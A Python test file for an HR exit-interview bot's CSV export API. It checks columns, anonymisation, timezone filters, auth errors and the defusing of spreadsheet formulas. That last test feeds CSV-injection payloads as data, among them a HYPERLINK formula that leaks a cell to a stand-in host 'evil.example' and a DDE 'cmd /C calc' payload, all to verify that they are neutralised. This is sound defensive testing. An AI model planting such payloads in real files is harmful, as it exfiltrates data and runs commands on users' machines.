"""``GET /api/export.csv`` over HTTP, after interviews run over Slack DMs: one header line
and one line per interview with its report, anonymity kept, formulas defused, periods read
in TIMEZONE, and the token and parameter errors."""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from datetime import UTC, date, datetime

from exitbot.core.interviewer import GeneratedReport, InterviewContext
from exitbot.core.statuses import InterviewStatus
from exitbot.interviewers.scripted.interviewer import ScriptedInterviewer
from exitbot.store import Database
from exitbot.store.export_rows import ExportFilter, ExportOrder, ExportRow, export_rows
from exitbot.web.api.export import COLUMNS, export_cells
from tests.api.harness import ApiClient, running_api
from tests.conftest import FakeClock
from tests.fakes.slack_api import FakeSlackApi, dm_channel_for
from tests.slack.harness import EMPLOYEE, HR_USER
from tests.support import GOOD_ANSWERS

EXPORT = "/api/export.csv"


class FixedReportInterviewer(ScriptedInterviewer):
    """The scripted interviewer, but the reports it writes carry these summaries and themes
    in turn (what a model might write); once they are used up, the scripted ones."""

    def __init__(self, *reports: tuple[str, list[str]]) -> None:
        self.reports = list(reports)

    async def write_report(self, ctx: InterviewContext) -> GeneratedReport:
        generated = await super().write_report(ctx)
        if not self.reports:
            return generated
        summary, themes = self.reports.pop(0)
        report = generated.report.model_copy(update={"summary": summary, "themes": themes})
        return GeneratedReport(report, generated.source)


async def start(api: ApiClient, words: str) -> None:
    ack, _ = await api.running.slack_client.command(HR_USER, f"start {words}")
    assert ack.status == 200
    await api.running.idle()


async def complete(
    api: ApiClient, slack_api: FakeSlackApi, user: str, consent: str = "yes"
) -> None:
    """``user`` accepts the invitation (``consent``: the button they click) and answers
    every topic fully, then confirms the summary."""
    client = api.running.slack_client
    invitation = slack_api.channel_messages(dm_channel_for(user))[0]
    await client.click(user, invitation, consent)
    await api.running.idle()
    for topic in api.running.plan.topics:
        await client.dm(user, GOOD_ANSWERS.get(topic.key, "A full answer."))
    await client.dm(user, "yes")
    await api.running.idle()


async def export(api: ApiClient, **params: str) -> list[dict[str, str]]:
    answer = await api.get(EXPORT, token="viewer", params=params)
    assert answer.status == 200, answer.text
    lines = list(csv.reader(io.StringIO(answer.text, newline="")))
    assert tuple(lines[0]) == COLUMNS
    return [dict(zip(COLUMNS, line, strict=True)) for line in lines[1:]]


async def test_one_line_per_interview_with_its_report(
    database_url: str, slack_api: FakeSlackApi
) -> None:
    slack_api.add_user("U200", "sam", "Sam Lee", "sam@corp.test")
    slack_api.add_user("U300", "kim", "Kim Park", "kim@corp.test")
    async with running_api(database_url, slack_api, clock=FakeClock()) as api:
        await start(api, "<@U100|dana> dept=Engineering last_day=2026-11-04 voluntary regrettable")
        await complete(api, slack_api, EMPLOYEE)
        await start(api, "U200 dept=Sales involuntary")
        await complete(api, slack_api, "U200")
        await start(api, "U300 dept=Support")
        answer = await api.get(EXPORT, token="viewer")
        rows = await export(api)
        by_id = await export(api, order="id")
        detail = await api.get("/api/interviews/1", token="viewer")
        searched = await export(api, q="compensation")
        listed = await api.get("/api/interviews", token="viewer", params={"q": "compensation"})

    assert answer.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert answer.headers["Content-Disposition"] == (
        'attachment; filename="exitbot-interviews-to-2026-11-02.csv"'
    )
    assert answer.headers["Cache-Control"] == "no-store"
    assert answer.text.startswith(",".join(COLUMNS) + "\r\n")
    assert [r["id"] for r in rows] == ["3", "2", "1"], "newest first (ties by id)"
    assert [r["id"] for r in by_id] == ["1", "2", "3"]
    assert [r["id"] for r in searched] == ["2", "1"], "q selects as the list does"
    assert [str(i["id"]) for i in listed.body["items"]] == ["2", "1"]
    invited, sam, dana = rows
    assert dana == {
        "id": "1",
        "who": "Dana Smith",
        "platform_user_id": EMPLOYEE,
        "anonymous": "false",
        "department": "Engineering",
        "status": "completed",
        "created_at": "2026-11-02T09:00:00Z",
        "ended_at": "2026-11-02T09:00:00Z",
        "last_day": "2026-11-04",
        "voluntary": "true",
        "regrettable": "true",
        "reasons": dana["reasons"],
        "themes": dana["themes"],
        "sentiment": dana["sentiment"],
        "enps": "7",
        "would_return": "true",
        "summary": dana["summary"],
    }
    assert dana["reasons"].split("; ")[0] == "compensation"
    report = detail.body["report"]
    assert dana["summary"] == report["summary"] and dana["summary"]
    assert dana["reasons"] == "; ".join(report["reasons"])
    assert dana["themes"] == "; ".join(report["themes"])
    assert float(dana["sentiment"]) == round(report["sentiment"], 4)
    assert (sam["who"], sam["department"], sam["voluntary"], sam["status"]) == (
        "Sam Lee",
        "Sales",
        "false",
        "completed",
    )
    assert invited["who"] == "Kim Park" and invited["status"] == "invited"
    assert [invited[c] for c in ("ended_at", "reasons", "summary", "enps", "sentiment")] == [""] * 5


async def test_an_anonymous_interview_shows_no_name_or_id_anywhere(
    database_url: str, slack_api: FakeSlackApi
) -> None:
    slack_api.add_user("U07ZQ4LL1", "zelda", "Zelda Quill", "zelda.quill@corp.test")
    interviewer = FixedReportInterviewer(
        (
            "Zelda Quill (zelda.quill@corp.test, U07ZQ4LL1) left over pay; call +1 415 555 0100.",
            ["Zelda's pay was below market"],
        )
    )
    async with running_api(database_url, slack_api, interviewer=interviewer) as api:
        await start(api, "<@U07ZQ4LL1|zelda> dept=Zelda-Quill-team")
        await complete(api, slack_api, "U07ZQ4LL1", consent="anonymous")
        await start(api, "<@U100|dana> dept=Engineering")
        await complete(api, slack_api, EMPLOYEE)
        answer = await api.get(EXPORT, token="viewer")
        rows = await export(api)

    named, anonymous = rows
    assert anonymous["who"] == "Anonymous"
    assert anonymous["anonymous"] == "true"
    assert anonymous["platform_user_id"] == ""
    assert anonymous["department"] == "[name]-[name]-team"
    assert anonymous["summary"] == "[name] ([email], [id]) left over pay; call [phone]."
    assert anonymous["themes"] == "[name]'s pay was below market"
    assert anonymous["status"] == "completed" and anonymous["reasons"]
    for secret in ("Zelda", "zelda", "Quill", "U07ZQ4LL1", "415 555"):
        assert secret not in answer.text
    assert (named["who"], named["platform_user_id"]) == ("Dana Smith", EMPLOYEE)


async def test_cells_a_spreadsheet_would_run_as_formulas_are_defused(
    database_url: str, slack_api: FakeSlackApi
) -> None:
    slack_api.add_user("U200", "plus", "+Plus One", "plus@corp.test")
    slack_api.add_user("U300", "at", "@ Ann Lee", "ann@corp.test")
    interviewer = FixedReportInterviewer(
        ('=HYPERLINK("https://evil.example/?leak="&A1,"Click")', ["-2+3", "+cmd|' /C calc'!A0"])
    )
    async with running_api(database_url, slack_api, interviewer=interviewer) as api:
        await start(api, "U200 dept==SUM(A1)")
        await complete(api, slack_api, "U200")
        await start(api, "U300 dept=-1+1")
        answer = await api.get(EXPORT, token="viewer")
        rows = await export(api)

    at, plus = rows
    assert plus["summary"] == '\'=HYPERLINK("https://evil.example/?leak="&A1,"Click")'
    assert plus["department"] == "'=SUM(A1)"
    assert plus["who"] == "'+Plus One"
    assert plus["themes"] == "'-2+3; +cmd|' /C calc'!A0"
    assert at["who"] == "'@ Ann Lee"
    assert at["department"] == "'-1+1"
    for line in answer.text.splitlines()[1:]:
        for cell in next(csv.reader([line])):
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
    assert float(plus["sentiment"]) == round(float(plus["sentiment"]), 4), "numbers stay numbers"


async def test_periods_and_filters_follow_the_timezone(
    database_url: str, slack_api: FakeSlackApi
) -> None:
    clock = FakeClock(datetime(2026, 11, 1, 23, 30, tzinfo=UTC))  # 00:30 on 2 Nov in Berlin
    slack_api.add_user("U200", "sam", "Sam Lee", "sam@corp.test")
    async with running_api(database_url, slack_api, clock=clock, timezone="Europe/Berlin") as api:
        await start(api, "<@U100|dana> dept=Engineering")
        await complete(api, slack_api, EMPLOYEE)
        clock.advance(days=60)  # 00:30 on 1 Jan 2027 in Berlin
        await start(api, "U200 dept=Sales")

        def ids(rows: list[dict[str, str]]) -> list[str]:
            return [row["id"] for row in rows]

        assert ids(await export(api, period="30d")) == ["2"]
        assert ids(await export(api, period="90d")) == ["2", "1"]
        assert ids(await export(api, since="2026-11-02", until="2026-11-02")) == ["1"]
        assert ids(await export(api, until="2026-11-01")) == []
        assert ids(await export(api, since="2026-12-31", until="2026-12-31")) == []
        assert ids(await export(api, since="2027-01-01")) == ["2"]
        assert ids(await export(api, status="completed")) == ["1"]
        assert ids(await export(api, status="invited,completed")) == ["2", "1"]
        assert ids(await export(api, department="sales")) == ["2"]
        named = await api.get(EXPORT, token="viewer", params={"since": "2026-11-02"})
        lately = await api.get(EXPORT, token="viewer", params={"period": "30d"})
    assert named.headers["Content-Disposition"].endswith(
        'filename="exitbot-interviews-2026-11-02-to-2027-01-01.csv"'
    )
    assert lately.headers["Content-Disposition"].endswith(
        'filename="exitbot-interviews-2026-12-02-to-2027-01-01.csv"'
    )


async def test_a_token_is_needed_and_bad_parameters_are_named(
    database_url: str, slack_api: FakeSlackApi
) -> None:
    async with running_api(database_url, slack_api) as api:
        missing = await api.get(EXPORT, token=None)
        wrong = await api.get(EXPORT, token="not-a-token")
        bad_date = await api.get(EXPORT, token="viewer", params={"since": "not-a-date"})
        bad_period = await api.get(EXPORT, token="viewer", params={"period": "7d"})
        both = await api.get(
            EXPORT, token="viewer", params={"period": "30d", "since": "2026-01-01"}
        )
        backwards = await api.get(
            EXPORT, token="viewer", params={"since": "2026-02-01", "until": "2026-01-01"}
        )
        bad_status = await api.get(EXPORT, token="viewer", params={"status": "done"})
        admin = await api.get(EXPORT, token="admin")
    for refused in (missing, wrong):
        assert refused.status == 401
        assert refused.body == {"detail": "Invalid authentication credentials"}
        assert refused.headers["WWW-Authenticate"] == "Bearer"
    assert bad_date.status == 422
    assert bad_date.body["detail"].startswith("Invalid query parameter 'since'")
    assert bad_period.status == 422 and "'period'" in bad_period.body["detail"]
    assert both.status == 422
    assert both.body["detail"] == (
        "Invalid query parameter 'since': give either period or since/until"
    )
    assert backwards.status == 422
    assert backwards.body["detail"] == "Invalid query parameter 'until': must not be before since"
    assert bad_status.status == 422 and "'status.0'" in bad_status.body["detail"]
    assert admin.status == 200 and admin.text == ",".join(COLUMNS) + "\r\n"


async def test_batches_continue_after_ties_in_invitation_time(
    database_url: str, database: Database, slack_api: FakeSlackApi
) -> None:
    """Interviews invited at the same instant are each read once, in order, across batches."""
    users = [f"U{n}00" for n in range(2, 7)]
    for user in users:
        slack_api.add_user(user, user.lower(), f"Person {user}", f"{user.lower()}@corp.test")
    async with running_api(database_url, slack_api) as api:
        for user in users:
            await start(api, user)

    async def read(order: ExportOrder, **filters: object) -> list[int]:
        selection = ExportFilter(**filters)  # type: ignore[arg-type]
        return [
            row.interview_id
            async for batch in export_rows(database, selection, order=order, batch_size=2)
            for row in batch
        ]

    assert await read(ExportOrder.NEWEST_FIRST) == [5, 4, 3, 2, 1]
    assert await read(ExportOrder.BY_ID) == [1, 2, 3, 4, 5]
    assert await read(ExportOrder.NEWEST_FIRST, statuses=(InterviewStatus.COMPLETED,)) == []


ROW = ExportRow(
    interview_id=7,
    anonymous=False,
    display_name="Robin Park",
    platform_user_id="U0000007",
    email="robin@corp.test",
    department="Engineering",
    status=InterviewStatus.COMPLETED,
    created_at=datetime(2026, 11, 2, 10, 0, tzinfo=UTC),
    ended_at=datetime(2026, 11, 3, 11, 30, 15, tzinfo=UTC),
    last_day=date(2026, 11, 30),
    voluntary=True,
    regrettable=None,
    summary="Robin left for pay.",
    reasons=("compensation", "not-a-reason", "management"),
    themes=("pay", "one-to-ones"),
    sentiment=-0.35,
    enps=0,
    would_return=False,
)


def test_cells_of_a_row() -> None:
    assert export_cells(ROW) == [
        "7",
        "Robin Park",
        "U0000007",
        "false",
        "Engineering",
        "completed",
        "2026-11-02T10:00:00Z",
        "2026-11-03T11:30:15Z",
        "2026-11-30",
        "true",
        "",
        "compensation; management",
        "pay; one-to-ones",
        "-0.35",
        "0",
        "false",
        "Robin left for pay.",
    ]
    anonymous = dict(zip(COLUMNS, export_cells(replace(ROW, anonymous=True)), strict=True))
    assert (anonymous["who"], anonymous["platform_user_id"]) == ("Anonymous", "")
    assert anonymous["summary"] == "[name] left for pay."
    erased = dict(
        zip(COLUMNS, export_cells(replace(ROW, status=InterviewStatus.ERASED)), strict=True)
    )
    assert (erased["who"], erased["platform_user_id"]) == ("(erased)", "")


def test_every_formula_start_is_defused() -> None:
    for start in ("=", "+", "-", "@", "\t", "\r"):
        text = f"{start}(1+1) was said"
        cells = dict(
            zip(COLUMNS, export_cells(replace(ROW, summary=text, department=text)), strict=True)
        )
        assert cells["summary"] == "'" + text
        assert cells["department"] == "'" + text
    plain = dict(zip(COLUMNS, export_cells(replace(ROW, summary="1+1 = 2")), strict=True))
    assert plain["summary"] == "1+1 = 2"
